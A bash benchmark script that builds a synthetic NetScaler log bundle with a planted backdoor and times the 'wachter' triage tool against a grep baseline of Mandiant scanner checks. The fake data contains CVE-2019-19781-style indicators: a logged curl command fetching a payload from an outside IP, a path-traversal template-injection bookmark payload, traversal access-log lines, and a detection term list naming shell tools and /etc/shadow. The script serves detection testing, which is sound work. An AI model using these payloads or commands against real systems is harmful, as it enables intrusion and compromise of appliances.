#!/usr/bin/env bash
# Triage of a generated NetScaler bundle of SIZE_MB (default 2048 MB; mostly logs: a large
# httpaccess.log, rotated and gzipped ones, shell history, cron, error logs, and a small
# appliance file system with a planted backdoor), as one uncompressed .tar read in place.
#
#   bash bench/triage.sh
#   SIZE_MB=512 bash bench/triage.sh
#
# wachter runs every built-in rule pack (access-log regexes, shell-history terms, content,
# permissions, …) over the tar in one pass. The peer is what the Mandiant/Citrix scanner
# does for its log checks, with GNU grep on the extracted tree: `zgrep -HEi` with the
# access-log expression over every httpaccess file and `zgrep -F` with the shell-history
# terms over bash/notice/sh logs (two of its seventeen checks, so the peer does less work).
set -euo pipefail
SIZE_MB=${SIZE_MB:-2048}
here=$(cd "$(dirname "$0")/.." && pwd)
out=${OUT:-$here/bench/out/triage}
rm -rf "$out"
mkdir -p "$out/root"
(cd "$here" && cargo build --release -q -p wachter)
wachter=$here/target/release/wachter

python3 - "$out/root" "$SIZE_MB" <<'PY'
import gzip, os, random, sys
root, size_mb = sys.argv[1], int(sys.argv[2])
random.seed(7)
def path(p):
    full = os.path.join(root, p.lstrip("/"))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    return full
agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/79.0 Safari/537.36",
          "Citrix Receiver/19.12", "curl/7.67.0"]
paths = [("GET", "/vpn/index.html", 200), ("GET", "/logon/LogonPoint/index.html", 200),
         ("GET", "/vpn/js/gateway_login_view.js", 200), ("POST", "/cgi/login", 302),
         ("GET", "/vpns/portal/scripts/logout.pl", 302), ("GET", "/vpn/images/ctxs.core.min.css", 304)]
def block(day):
    lines = []
    for i in range(20000):
        ip = f"198.51.100.{random.randrange(1, 255)}"
        method, target, status = random.choice(paths)
        lines.append(f'{ip} - - [{day:02d}/Jan/2020:{i % 24:02d}:{i % 60:02d}:{i % 59:02d} +0000] '
                     f'"{method} {target} HTTP/1.1" {status} {random.randrange(100, 90000)} "-" '
                     f'"{random.choice(agents)}" "Time: {random.randrange(100, 90000)} microsecs"\n')
    return "".join(lines).encode()
chunk = block(10)
rotated = max(1, int(size_mb * 0.25) // 40)
for n in range(rotated):
    with gzip.open(path(f"/var/log/httpaccess.log.{n}.gz"), "wb", compresslevel=1) as f:
        for _ in range((40 << 20) // len(chunk)):
            f.write(chunk)
shell = "".join(f'Jan 19 10:{i % 60:02d}:{i % 59:02d} <local7.notice> ns bash[{1000 + i}]: nsroot on /dev/pts/0 shell_command="show ns ip"\n' for i in range(20000)).encode()
with open(path("/var/log/bash.log"), "wb") as f:
    for _ in range(max(1, (int(size_mb * 0.04) << 20) // len(shell))):
        f.write(shell)
    f.write(b'Jan 19 23:39:59 <local7.notice> ns bash[1173]: root on (null) shell_command="pkill -9 netscalerd;rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k https://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o /tmp/.init/httpd"\n')
with open(path("/var/log/notice.log"), "wb") as f:
    f.write(shell)
with open(path("/var/log/cron"), "w") as f:
    for i in range(5000):
        f.write(f"Jan 19 {i % 24:02d}:01:05 <cron.info> ns /usr/sbin/cron[{i}]: (root) CMD (   nsfsyncd -p)\n")
with open(path("/var/log/httperror.log"), "w") as f:
    for i in range(5000):
        f.write("[Mon Jan 13 10:00:00 2020] [error] [client 198.51.100.7] File does not exist: /netscaler/ns_gui/favicon.ico\n")
for name in ["tips.pl", "logout.pl", "newbm.pl", "themes.pl"]:
    with open(path(f"/netscaler/portal/scripts/{name}"), "w") as f:
        f.write("#!/usr/bin/perl\nuse strict;\nprint \"ok\";\n")
with open(path("/netscaler/portal/templates/bflxohnzbv.xml"), "w") as f:
    f.write("<user username=\"../../../netscaler/portal/templates/bflxohnzbv\"><bookmarks><bookmark UI_inuse=\"a\" descr=\"desc\" title=\"[% template.new({'BLOCK'='print readpipe(chr(47) . chr(118))'})%]\" url=\"http://127.0.0.1\" /></bookmarks></user>\n")
with open(path("/etc/crontab"), "w") as f:
    f.write("SHELL=/bin/sh\n0 * * * * root newsyslog\n")
os.makedirs(path("/var/vpn/bookmark/x"), exist_ok=True)
# The live access log fills the bundle up to SIZE_MB.
used = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(root) for f in fs)
big = max(len(chunk), (size_mb << 20) - used)
with open(path("/var/log/httpaccess.log"), "wb") as f:
    written = 0
    while written < big - 2 * len(chunk):
        f.write(chunk)
        written += len(chunk)
    # The attack, once, in the middle of nowhere.
    f.write(b'193.187.174.104 - - [12/Jan/2020:11:26:03 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 15 "-"\n')
    f.write(b'193.187.174.104 - - [12/Jan/2020:11:26:11 +0000] "GET /vpn/../vpns/portal/AOUnCfwrjIJrpngpwLXHddqADAxTraBan.xml HTTP/1.1" 200 - "-"\n')
    f.write(chunk)
PY
(cd "$out/root" && tar -cf "$out/bundle.tar" .)
rm -rf "$out/peer-root" && mv "$out/root" "$out/peer-root"
size=$(stat -c %s "$out/bundle.tar")

# wachter, three rounds (shared machines vary); the median counts.
for round in 1 2 3; do
    /usr/bin/time -f '%e %M' -o "$out/wachter-$round.time" \
        "$wachter" triage "$out/bundle.tar" --json >"$out/wachter-$round.json" || true
done

# The peer: GNU grep doing two of the Mandiant scanner's checks on the extracted tree.
re0='\]\s"[A-Z]{3,7}\s[^[:space:]]*/(v|%76)(p|%70)(n|%6[Ee])(s|%73)/[^[:space:]]*\.(x|%[57]8)(m|%[46]d)(l|%[46]c)[^[:space:]]*\sHTTP/1\.1"\s(200|304)'
terms=(95.179.163.186 /wp-content/uploads/ "tee /netscaler/portal" 185.178.45.221 ci.sh ci2.sh ci3.sh cmd.pl /etc/shadow NSC_USER "nc -l" "python -c '" /tmp/.init/httpd /tmp/bsd /tmp/un)
grep_args=(); for t in "${terms[@]}"; do grep_args+=(-e "$t"); done
peer() {
    find "$out/peer-root/var/log" -type f -iname '*httpaccess*' -exec zgrep -HEi "$re0" {} + >"$out/peer-access.txt" || true
    find "$out/peer-root/var/log" -type f \( -name 'bash.log*' -o -name 'notice.log*' -o -name 'sh.log*' \) -exec zgrep -HF "${grep_args[@]}" {} + >"$out/peer-shell.txt" || true
}
export -f peer; export out re0
for round in 1 2 3; do
    /usr/bin/time -f '%e %M' -o "$out/peer-$round.time" bash -c "$(declare -p grep_args); $(declare -f peer); peer"
done

python3 - "$out" "$size" <<'PY'
import json, statistics, sys
out, size = sys.argv[1], int(sys.argv[2])
def rounds(name):
    # The last line: `time` writes "Command exited with non-zero status 1" first when the
    # verdict is not clean (wachter's exit code follows the verdict).
    return [tuple(map(float, open(f"{out}/{name}-{r}.time").read().split()[-2:])) for r in (1, 2, 3)]
w, p = rounds("wachter"), rounds("peer")
report = json.load(open(f"{out}/wachter-1.json"))
wt = statistics.median(t for t, _ in w); pt = statistics.median(t for t, _ in p)
print(f"bundle: {size / 2**20:.0f} MiB tar ({size / 2**30:.2f} GiB)")
print(f"wachter triage     {wt:6.2f} s  {size / 2**20 / wt:7.0f} MiB/s  peak RSS {max(m for _, m in w) / 1024:.0f} MB  "
      f"(rounds {[t for t, _ in w]})  verdict {report['verdict']}, {len(report['hits'])} hits")
print(f"peer (zgrep, 2 checks) {pt:6.2f} s  peak RSS {max(m for _, m in p) / 1024:.0f} MB  (rounds {[t for t, _ in p]})")
print(f"ratio peer/wachter: {pt / wt:.2f}x")
PY
